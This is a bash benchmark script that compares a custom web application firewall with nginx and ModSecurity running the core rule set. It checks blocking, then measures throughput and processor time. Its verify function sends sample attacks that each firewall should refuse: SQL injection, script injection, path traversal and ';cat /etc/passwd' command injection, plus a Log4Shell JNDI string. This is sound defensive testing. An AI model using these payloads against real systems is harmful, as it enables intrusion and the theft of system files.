# The firewall with the core rule set at paranoia level 1, on requests of which none is like another, beside nginx with
# ModSecurity: two workers each on the same two cores, the same version of the engine, the same rules in the same order
# (Policies/firewall, and of the core rule set the files that we load), so the same threshold and settings, too. Both
# forward over a unix socket to one fixed backend and write an access log. No TLS. Both try the same rules on a request:
# those of higher paranoia levels nginx loads and skips for each request, ours does not load (ParanoiaReduction.swift).
#
# Ours authenticates each request besides, counts it against the limits, validates its parameters and writes it into the
# ledger; nginx does none of this. On the other hand it shows its rules the token, which ours spares them: a token that
# has been checked is letters and digits. So nginx is measured a second time without a token in the requests.

start_backend
firewall_cores=$(core 0),$(core 1)

change_policies() { sed -i "s|socket: run/bridge.sock|socket: $backend|" "$1/gateway.yaml"; }
drawbridge_cores=$firewall_cores
start_drawbridge 2 3 change_policies
drawbridge_process=${processes[-1]}
unset drawbridge_cores

# The rules that ours loads: Sources/Firewall/RuleFiles.swift says why not the others.
core_rules=$(sed -n 's/^core_rules: \([^ ]*\).*/\1/p' Policies/firewall.yaml)
{
    printf 'Include %s\n' "$directory/policies/firewall/drawbridge.conf" "$directory/policies/firewall/rules.conf"
    printf 'Include %s\n' "$core_rules"/REQUEST-9*.conf | grep -v 'REQUEST-\(903\|905\|910\|912\)'
    printf 'Include %s\n' "$directory/policies/firewall/exclusions.conf"
} >"$directory/rules.conf"
module=$(nginx -V 2>&1 | sed -n 's/.*--modules-path=\([^ ]*\).*/\1/p')/ngx_http_modsecurity_module.so

# nginx with these rules: start_modsecurity NAME PORT
start_modsecurity() {
    start_nginx "$1" "$firewall_cores" 2 "
        upstream backend { server unix:$backend; keepalive 64; keepalive_requests 1000000000; }
        modsecurity on;
        modsecurity_rules_file $directory/rules.conf;
        server {
            listen 127.0.0.1:$2 reuseport;
            access_log $directory/$1/access.log combined;
            location / {
                proxy_pass http://backend;
                proxy_http_version 1.1;
                proxy_set_header Connection '';
                proxy_set_header Host \$http_host;
            }
        }" "$module"
    await_answer "http://127.0.0.1:$2/"
}
shown=$(free_port)
start_modsecurity modsecurity "$shown"
nginx_process=${processes[-1]}
spared=$(free_port)
start_modsecurity modsecurity-spared "$spared"
nginx_spared_process=${processes[-1]}

authorization=(--header "Authorization: Bearer $BOOKING_ENGINE_TOKEN")
availability_url "$plain_url"
our_url=$url
availability_url "http://127.0.0.1:$shown"
shown_url=$url
availability_url "http://127.0.0.1:$spared"
spared_url=$url

# Both refuse attacks and nothing else: verify URL
verify() {
    local attack
    status_is 200 "$1" "${authorization[@]}"
    status_is 200 "$1&room_type_id=12&guests=2" "${authorization[@]}" --header "Cookie: name=O'Brien; text=東京"
    for attack in "a=1' OR '1'='1' -- " 'a=<script>alert(1)</script>' 'a=../../../../etc/passwd' 'a=;cat /etc/passwd'; do
        status_is 403 "$1" "${authorization[@]}" --header "Cookie: $attack"
    done
    status_is 403 "$1" "${authorization[@]}" --header 'Referer: ${jndi:ldap://example.com/a}'
    status_is 403 "$1" "${authorization[@]}" --user-agent sqlmap
}
verify "$our_url"
verify "$shown_url"
verify "$spared_url"

export TOKEN=$BOOKING_ENGINE_TOKEN
wrk_cores=$(core_beside 3)
hits=$(metric drawbridge_firewall_cache_hits_total)
declare -A used
for contender in drawbridge nginx nginx_spared; do
    process=${contender}_process
    used[$contender]=$(ticks "${!process}")
done
rounds firewall 64 "drawbridge $our_url distinct" "nginx $shown_url distinct" "nginx-spared $spared_url anonymous"
for contender in drawbridge nginx nginx_spared; do
    process=${contender}_process
    used[$contender]=$(($(ticks "${!process}") - ${used[$contender]}))
done
unset wrk_cores TOKEN
hits=$(($(metric drawbridge_firewall_cache_hits_total) - hits))
[ "$hits" = 0 ] || fail "firewall: $hits of our verdicts were remembered ones"

detail() { echo "$(short "$(median_of firewall-drawbridge.rate)")/s : $(short "$(median_of "firewall-$1.rate")")/s"; }
p99() { echo "p99 $(short "$(median_of "firewall-$1.p99")") ms"; }
judge 'firewall: core rules ÷ nginx + ModSecurity' "$(ratio firewall-drawbridge firewall-nginx)" '>= 1.0' × \
    "$(detail nginx)"
inform 'firewall: the same, its rules shown no token' "$(ratio firewall-drawbridge firewall-nginx-spared)" × \
    "$(detail nginx-spared)"
inform 'firewall: processor time, drawbridge' "$(microseconds firewall-drawbridge "${used[drawbridge]}")" µs "$(p99 drawbridge)"
inform 'firewall: processor time, nginx' "$(microseconds firewall-nginx "${used[nginx]}")" µs "$(p99 nginx)"
inform 'firewall: the same, shown no token' "$(microseconds firewall-nginx-spared "${used[nginx_spared]}")" µs "$(p99 nginx-spared)"
